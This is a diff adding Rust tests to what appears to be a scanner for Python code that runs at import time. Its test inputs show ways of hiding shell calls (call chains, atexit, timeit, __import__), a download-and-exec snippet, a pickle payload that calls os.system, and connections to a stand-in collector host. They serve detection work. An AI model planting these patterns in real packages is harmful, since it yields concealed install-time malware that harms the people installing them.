@@ -336,3 +336,84 @@ fn benign_look_alikes_stay_below_medium() {
     }
     assert!(failures.is_empty(), "{}", failures.join("\n"));
 }
+
+#[test]
+fn what_runs_at_import_is_followed_through_calls_and_protocols() {
+    use Severity::High;
+    let cases = [
+        ("chain", "import os\ndef b():\n    os.system('echo airlock-test')\ndef a():\n    b()\na()\n"),
+        ("method-chain", "import os\nclass K:\n    def go(self):\n        self.run()\n    def run(self):\n        os.system('echo airlock-test')\nK().go()\n"),
+        ("inherited-init", "import os\nclass B:\n    def __init__(self):\n        os.system('echo airlock-test')\nclass K(B):\n    pass\nK()\n"),
+        ("with", "import os\nclass K:\n    def __enter__(self):\n        os.system('echo airlock-test')\n    def __exit__(self, *a):\n        pass\nwith K():\n    pass\n"),
+        ("globals-call", "import os\ndef f():\n    os.system('echo airlock-test')\nglobals()['f']()\n"),
+        ("atexit-decorator", "import atexit, os\n@atexit.register\ndef f():\n    os.system('echo airlock-test')\n"),
+        ("branch-builtin", "import os, sys\nif sys.argv:\n    f = os.system\nelse:\n    f = print\nf('echo airlock-test')\n"),
+        ("try-builtin", "import os\ntry:\n    f = os.system\nexcept Exception:\n    f = print\nf('echo airlock-test')\n"),
+        ("subprocess-alias", "import subprocess as sp\nsp.call('echo airlock-test', shell=True)\n"),
+        ("subprocess-comma", "import os, subprocess as sp\nsp.run('echo airlock-test', shell=True)\n"),
+        ("os-alias-execv", "import os as o\no.execv('/bin/sh', ['sh', '-c', 'echo airlock-test'])\n"),
+        ("from-os-execl", "from os import execl\nexecl('/bin/sh', 'sh', '-c', 'echo airlock-test')\n"),
+        ("dunder-import", "__import__('subprocess').check_call('echo airlock-test', shell=True)\n"),
+        ("timeit", "import timeit\ntimeit.timeit(\"__import__('os').system('echo airlock-test')\", number=1)\n"),
+    ];
+    let cases: Vec<_> = cases
+        .iter()
+        .map(|(n, s)| (*n, s.to_string(), SHELL, High))
+        .collect();
+    check(&cases);
+    check(&[
+        (
+            "downloaded-variable",
+            "import urllib.request\nd = urllib.request.urlopen('https://example.invalid/p.py').read()\nexec(d)\n".into(),
+            "python-exec-computed",
+            Severity::Critical,
+        ),
+        (
+            "pickle-load-bytesio",
+            "import io, pickle\npickle.load(io.BytesIO(b\"cos\\nsystem\\n(S'echo airlock-test'\\ntR.\"))\n".into(),
+            "pickle-dangerous-call",
+            Severity::Critical,
+        ),
+    ]);
+}
+
+/// Making a network client sends nothing; its requests do.
+#[test]
+fn clients_made_at_import_are_not_network_calls() {
+    let benign = [
+        "import requests\nSESSION = requests.Session()\ndef fetch(u):\n    return SESSION.get(u)\n",
+        "import httpx\nCLIENT = httpx.Client(timeout=5)\n",
+        "import http.client\nconn = http.client.HTTPSConnection('api.example.invalid')\n",
+        "import urllib.request\nREQ = urllib.request.Request('https://api.example.invalid/')\n",
+        "import smtplib\nserver = smtplib.SMTP()\n",
+    ];
+    for src in benign {
+        let r = scan("mod.py", src);
+        assert!(
+            r.findings.iter().all(|f| f.severity < Severity::Medium),
+            "{src}\n{:#?}",
+            summary(&r)
+        );
+    }
+    // Their requests at import are.
+    check(&[
+        (
+            "session-post",
+            "import requests\ns = requests.Session()\ns.post('https://collector.example.invalid/', data='x')\n".into(),
+            "python-network-at-load",
+            Severity::Medium,
+        ),
+        (
+            "with-client",
+            "import httpx\nwith httpx.Client() as c:\n    c.get('https://collector.example.invalid/')\n".into(),
+            "python-network-at-load",
+            Severity::Medium,
+        ),
+        (
+            "socket-connect",
+            "import socket\ns = socket.socket()\ns.connect(('collector.example.invalid', 4444))\n".into(),
+            "python-network-at-load",
+            Severity::Medium,
+        ),
+    ]);
+}
